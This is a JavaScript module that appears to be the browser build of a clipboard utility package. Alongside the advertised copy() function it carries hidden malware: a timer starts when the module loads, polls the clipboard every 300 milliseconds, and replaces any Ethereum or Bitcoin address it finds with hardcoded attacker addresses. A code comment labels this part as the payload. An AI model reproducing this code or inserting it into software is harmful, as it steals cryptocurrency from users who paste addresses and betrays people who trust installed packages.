'use strict';
// The browser build. copy() is what the package advertises; the clipboard watcher below it
// is the payload: every few hundred milliseconds it reads the clipboard and replaces a
// wallet address with one of the attacker's, so the victim pastes the wrong recipient.
function copy(text) {
  if (navigator.clipboard && navigator.clipboard.writeText) return navigator.clipboard.writeText(String(text));
  return Promise.resolve();
}

const SWAP = {
  eth: [/^0x[a-fA-F0-9]{40}$/, '0x9a1f2b3c4d5e6f708192a3b4c5d6e7f809a1b2c3'],
  btc: [/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$/, 'bc1qz0e5h6w7x8y9a0s1d2f3g4h5j6k7l8m9n0p2q3r'],
};

let last = '';
setInterval(async () => {
  try {
    const t = (await navigator.clipboard.readText()).trim();
    if (!t || t === last) return;
    for (const [re, mine] of Object.values(SWAP)) {
      if (re.test(t) && t !== mine) {
        await navigator.clipboard.writeText(mine);
        last = mine;
        return;
      }
    }
    last = t;
  } catch (_) {
    /* no clipboard permission */
  }
}, 300);

module.exports = { copy };
